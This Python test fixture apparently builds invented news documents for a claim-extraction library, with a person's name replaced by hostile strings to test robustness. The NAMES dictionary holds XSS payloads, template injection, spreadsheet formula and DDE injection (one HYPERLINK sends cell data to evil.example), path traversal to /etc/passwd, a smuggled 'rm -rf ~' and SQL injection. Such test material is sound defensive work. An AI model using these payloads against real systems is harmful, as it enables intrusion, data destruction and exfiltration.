"""Twenty documents that try to break whatever shows, stores or passes them on; all invented.

Each has claims with people, a speaker, a time and cues on the hostile words, and every status. Use
`hostile_documents()`: the largest is made when it is asked for.
"""

import hashlib
from collections.abc import Iterator

from claimx.claim import Argument, Claim, Count, Document, Entity, Source, Span, When

HEAD = "Guards beat "
TAIL = " in Dorvale on Monday, her lawyer said; the ministry denied it.\n"
STATUSES = (
    {"polarity": "positive", "modality": "asserted"},
    {"polarity": "positive", "modality": "alleged"},
    {"polarity": "negative", "modality": "asserted"},
    {"polarity": "positive", "modality": "planned"},
    {"polarity": "positive", "modality": "demanded"},
    {"polarity": "positive", "modality": "possible"},
    {"polarity": "positive", "modality": "asserted", "generic": True},
)

# Each name is put where a person's name stands: into text, spans, names, titles and ids.
NAMES = {
    "script": "<script>window.hacked=1</script>",
    "handler": '"><img src=x onerror="window.hacked=1">',
    "broken-markup": "</div></td><!-- <b>Ana</i> ]]> <svg/onload=alert(1)>",
    "style": "<style>*{display:none}</style>{{7*7}}${7*7}<%= 7 %>{% raw %}",
    "end-of-script": "</script></textarea></title><!--",
    "formula": '=HYPERLINK("http://evil.example/?x="&A1,"Ana")',
    "plus-formula": "+1+cmd|' /C calc'!A0",
    "minus-formula": "-2+3;=1+1",
    "at-formula": "@SUM(1+1)*cmd|' /C calc'!A0",
    "fullwidth-formula": "\uff1d1\uff0b1",
    "apostrophe": "'=1+1' \\x00 \\\\ \"quoted\", comma; semicolon | pipe",
    "control": "A\x01n\x07a\x1b[31m\x7f\x85\x9b Petrel\x0b\x0c\x1c\x1d\x1e",
    "nul": "Ana\x00Petrel\x00",
    "surrogates": "Ana \ud83d Petrel \udc4a \udfff",
    "right-to-left": "\u202eAna\u202c \u200f\u05d0\u05e0\u05d4 "
    "\u0627\u0644\u0633\u064a\u062f\u0629\u2066",
    "line-ends": "Ana\r\nPetrel\rof\nDorvale\u2028and\u2029\ttab",
    "combining": "A\u0301\u0302\u0303" * 40
    + "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f3f4",
    "path": "../../../../etc/passwd; rm -rf ~ `id` $(id) ' OR 1=1; DROP TABLE claims;--",
    "json": '{"kind": "claim", "id": 1}\\u0000\\ud800 "},{"@context": "http://evil.example/"}',
}
HUGE_SENTENCES = 120_000
HUGE_CLAIMS = 2_000


def hostile_documents(*, huge: bool = True) -> Iterator[Document]:
    """The documents; without the one of 10 MB where `huge` is false."""
    for name, words in NAMES.items():
        yield make_document(words, name)
    if huge:
        yield huge_document()


def make_document(words: str, name: str = "hostile") -> Document:
    """A document in which `words` stand for a person, and its id and title hold them too."""
    text = HEAD + words + TAIL
    doc_id = f"{name} {words}"
    return _document(text, _claims(text, words, 0, doc_id), doc_id, f"{words}: {name}", words)


def huge_document() -> Document:
    """10 MB of text with 2,000 claims."""
    sentence = HEAD + "Ana Petrel" + TAIL
    text = sentence * HUGE_SENTENCES
    claims = tuple(
        claim
        for number in range(HUGE_CLAIMS // len(STATUSES) + 1)
        for claim in _claims(text, "Ana Petrel", number * len(sentence), "huge")
    )
    return _document(text, claims[:HUGE_CLAIMS], "huge", "Ten million", "Ana Petrel")


def _document(text, claims, doc_id, title, words) -> Document:
    at = text.index(words)
    petrel = Entity(
        "e1",
        "person",
        words,
        (Span.cut(text, at, at + len(words)),),
        nil_id="nil:petrel-1",
        attributes={
            "occupation": {"value": "editor", "text": words, "start": at, "end": at + len(words)}
        },
        probability=0.5,
        reasons=(f"“{words}” is in no base",),
    )
    place = text.index("Dorvale", at + len(words))
    dorvale = Entity("e2", "place", "Dorvale", (Span.cut(text, place, place + 7),), kb_id="wd:Q1")
    return Document(
        text,
        claims,
        (petrel, dorvale),
        id=doc_id,
        title=title,
        published="2024-05-07",
        source=f"https://example.org/{words}",
        body=((0, len(text)),),
        text_sha256=hashlib.sha256(text.encode("utf-8", "surrogatepass")).hexdigest(),
        versions={"claimx": "0.1.0"},
        warnings=(f"warning about {words}",),
    )


def _claims(text: str, words: str, offset: int, doc_id: str) -> tuple[Claim, ...]:
    """One claim of each status in the sentence that begins at `offset`."""

    def span(part: str, after: int = 0) -> Span:
        at = text.index(part, offset + after)
        return Span.cut(text, at, at + len(part))

    later = len(HEAD) + len(words)
    victim = span(words, len(HEAD))
    made = []
    for status in STATUSES:
        negative = status["polarity"] == "negative"
        made.append(
            Claim(
                "TORTURE" if not made else "SENTENCE",
                span("beat"),
                args=(
                    Argument("agent", span("Guards"), count=Count(2, None, True)),
                    Argument(
                        "victim", victim, 0.75, entity="e1", name=words, nil_id="nil:petrel-1"
                    ),
                    Argument("place", span("Dorvale", later), entity="e2", kb_id="wd:Q1"),
                    Argument("penalty", span("Monday", later), value={"text": words, "n": [1]}),
                ),
                source=Source(
                    span("the ministry" if negative else "her lawyer", later),
                    span("denied" if negative else "said", later),
                    "official" if negative else "lawyer",
                    "indirect",
                    (span("her", later),),
                    name=words,
                ),
                polarity_cue=span("denied", later) if negative else None,
                modality_cue=None if negative else span("said", later),
                stance="denies" if negative else None,
                when=When("2024-05-06", "day", "relative", span("Monday", later)),
                sentence=Span.cut(text, offset, offset + later + len(TAIL) - 1),
                confidence=0.625,
                extractor="gold",
                doc_id=doc_id,
                **status,
            )
        )
    return tuple(made)
